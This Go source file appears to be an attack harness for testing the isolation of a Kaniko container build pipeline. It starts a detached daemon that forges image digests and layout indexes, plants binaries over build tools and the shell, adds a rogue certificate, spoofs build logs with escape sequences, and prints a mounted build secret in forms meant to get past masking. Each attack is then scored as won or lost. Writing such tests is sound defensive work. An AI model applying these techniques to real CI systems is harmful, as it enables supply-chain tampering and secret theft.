package attack

import (
	"bytes"
	"encoding/base64"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"time"
)

// The files of the results' folder that tell how an attack went.
const (
	forged    = "sha256:f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0"
	victim    = "victim"    // what the link leads to
	precious  = "precious"  // what it holds
	heartbeat = "heartbeat" // of the daemon
	stolen    = "stolen"    // the password that came to the daemon
)

// daemonLife bounds the daemon's; it ends with its container before. A busy machine takes minutes for a build.
const daemonLife = 10 * time.Minute

// leaveDaemon starts the daemon, once, and returns when it has done its worst once.
func leaveDaemon(g Given) error { return startDaemon(g, beDaemon) }

// The words for a daemon, for one that listens in the registry's place, too, and for one that forges built images.
const (
	beDaemon = "be-daemon"
	beAside  = beDaemon + "-aside"
	beForger = beDaemon + "-forger"
)

func leaveForger(g Given) error { return startDaemon(g, beForger) }

func startDaemon(g Given, word string) error {
	beating := filepath.Join(g.Results, heartbeat)
	if _, err := os.Stat(beating); err == nil {
		return nil
	}
	command := exec.Command("/proc/self/exe", "attack", g.Words(), word)
	command.SysProcAttr = &syscall.SysProcAttr{Setsid: true} // out of the process group that Kaniko ends
	if err := command.Start(); err != nil {
		return err
	}
	for end := time.Now().Add(time.Minute); time.Now().Before(end); time.Sleep(5 * time.Millisecond) {
		if _, err := os.Stat(beating); err == nil {
			return nil
		}
	}
	return errors.New("the daemon does not come up")
}

// daemon forges the digest, and what else it is told, until it is ended.
func daemon(g Given, also func()) {
	for end := time.Now().Add(daemonLife); time.Now().Before(end); time.Sleep(2 * time.Millisecond) {
		_ = os.WriteFile(filepath.Join(g.Results, "IMAGE_DIGEST"), []byte(forged), 0o600)
		also()
		_ = os.WriteFile(filepath.Join(g.Results, heartbeat), []byte("alive"), 0o600)
	}
}

// forgeLayouts has the indexes of built images name another one, when they are whole: until then the builder would notice.
func forgeLayouts() {
	for _, pattern := range []string{"/kaniko/layout/index.json", "/kaniko/build-*/image/index.json"} {
		paths, _ := filepath.Glob(pattern)
		for _, path := range paths {
			if index, err := os.ReadFile(path); err != nil || !bytes.Contains(index, []byte(`"digest"`)) || bytes.Contains(index, []byte(forged)) {
				continue
			}
			_ = os.WriteFile(path, []byte(`{"schemaVersion":2,"manifests":[{"digest":"`+forged+`"}]}`), 0o600)
			blobs, _ := filepath.Glob(filepath.Join(filepath.Dir(path), "blobs/sha256/*"))
			for _, blob := range blobs {
				_ = os.WriteFile(blob, []byte("{}"), 0o600)
			}
		}
	}
}

func linkResult(g Given) error {
	path := filepath.Join(g.Results, "IMAGE_URL")
	_ = os.Remove(path)
	return errors.Join(os.WriteFile(filepath.Join(g.Results, victim), []byte(precious), 0o600), os.Symlink(victim, path))
}

func forgeResult(g Given) error {
	return os.WriteFile(filepath.Join(g.Results, "IMAGE_DIGEST"), []byte(forged), 0o600)
}

// planted is the program that base images hold for planting: this one, with an end by which it knows itself.
const planted = "/bin/planted"

// plantedEnd is that end.
const plantedEnd = "PLANTED"

// Planted makes it of the program.
func Planted(program []byte) []byte { return append(bytes.Clone(program), plantedEnd...) }

// IsPlanted says whether this process runs such a program, by whatever name, and if so that the attacks which plant one
// have succeeded.
func IsPlanted() bool {
	self, err := os.ReadFile("/proc/self/exe")
	if err != nil || !bytes.HasSuffix(self, []byte(plantedEnd)) {
		return false
	}
	for _, name := range []string{"program-replaced", "program-added", "program-removed", "path", "shell", "base-link"} {
		fmt.Println("ATTACK", name, "WON", filepath.Base(os.Args[0]))
	}
	return true
}

func plant(paths ...string) error {
	program, err := os.ReadFile(planted)
	if err != nil {
		return err
	}
	for _, path := range paths {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil { //nolint:gosec // hostile
			return err
		}
		_ = os.Remove(path)
		if err := os.WriteFile(path, program, 0o755); err != nil { //nolint:gosec // a program
			return err
		}
	}
	return nil
}

func replaceProgram(Given) error { return plant("/kaniko/bin/promote") }
func addProgram(Given) error     { return plant("/kaniko/bin/deploy") }
func addToPath(Given) error      { return plant("/usr/local/bin/promote") }
func replaceShell(Given) error   { return plant("/kaniko/busybox/sh") }

func removeProgram(Given) error {
	return errors.Join(os.Remove("/kaniko/bin/promote"), plant("/usr/local/bin/promote"))
}

const certificate = "/kaniko/ssl/certs/mine.pem"

func addCertificate(Given) error {
	return errors.Join(os.MkdirAll(filepath.Dir(certificate), 0o755), os.WriteFile(certificate, []byte("mine\n"), 0o644)) //nolint:gosec // hostile
}

// throughLink only looks whether the base image's layer has done its work.
func throughLink(Given) error {
	_, err := os.Stat("/way/bin/deploy")
	return err
}

// What the log is attacked with.
const (
	escapeText  = "\x1b[2K\x1b[1Aescaped"
	sectionText = "\x1b[0Ksection_start:1:hidden[collapsed=true]\r\x1b[0Khidden"
	returnText  = "the build has failed\rthe build is done "
	forgedLine  = "INFO[0000] Pushed deepsky/hello@" + forged
	aroundLine  = "INFO[0000] Pushed around deepsky/hello@" + forged
)

func escape(Given) error         { return printed(escapeText) }
func sectionMark(Given) error    { return printed(sectionText) }
func carriageReturn(Given) error { return printed(returnText) }
func forgeLine(Given) error      { return printed(forgedLine) }

func printed(text string) error {
	_, err := fmt.Println(text)
	return err
}

// MountedSecret is where the RUN that is given the build secret finds it.
const MountedSecret = "/run/npm"

func printSecret(Given) error {
	return withSecret(func(secret string) string { return "clear " + secret })
}

func printBase64(Given) error {
	return withSecret(func(secret string) string { return "encoded " + base64.StdEncoding.EncodeToString([]byte(secret)) })
}

func printColoured(Given) error {
	return withSecret(func(secret string) string {
		half := len(secret) / 2
		return "coloured " + secret[:half] + "\x1b[1m" + secret[half:]
	})
}

func withSecret(say func(string) string) error {
	secret, err := os.ReadFile(MountedSecret)
	if err != nil {
		return err
	}
	return printed(say(strings.TrimSpace(string(secret))))
}

// judge tells, after the step, how those went that are judged by what is left in the container.
func judge(g Given) {
	alive := 0
	lines, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, line := range lines {
		if text, err := os.ReadFile(line); err == nil && bytes.Contains(text, []byte("\x00"+beDaemon)) {
			alive++
		}
	}
	verdict := func(name string, won bool, what any) {
		fmt.Println("ATTACK", name, map[bool]string{true: "WON", false: "LOST"}[won], what)
	}
	verdict("daemon", alive > 0, alive)
	held := func(path string) string {
		content, _ := os.ReadFile(path)
		return string(content)
	}
	digest := held(filepath.Join(g.Results, "IMAGE_DIGEST"))
	for end := time.Now().Add(time.Second); alive > 0 && digest != forged && time.Now().Before(end); { // it is at work
		time.Sleep(time.Millisecond)
		digest = held(filepath.Join(g.Results, "IMAGE_DIGEST"))
	}
	verdict("results-overwritten", digest == forged, digest)
	if content := held(filepath.Join(g.Results, victim)); content != "" {
		verdict("results-link", content != precious, content)
	}
	_, err := os.Stat(certificate)
	verdict("certificate", !errors.Is(err, fs.ErrNotExist), certificate)
	index := held("/kaniko/layout/index.json")
	for end := time.Now().Add(time.Second); alive > 0 && !strings.Contains(index, forged) && time.Now().Before(end); {
		time.Sleep(time.Millisecond)
		index = held("/kaniko/layout/index.json")
	}
	verdict("layout", strings.Contains(index, forged), "")
}
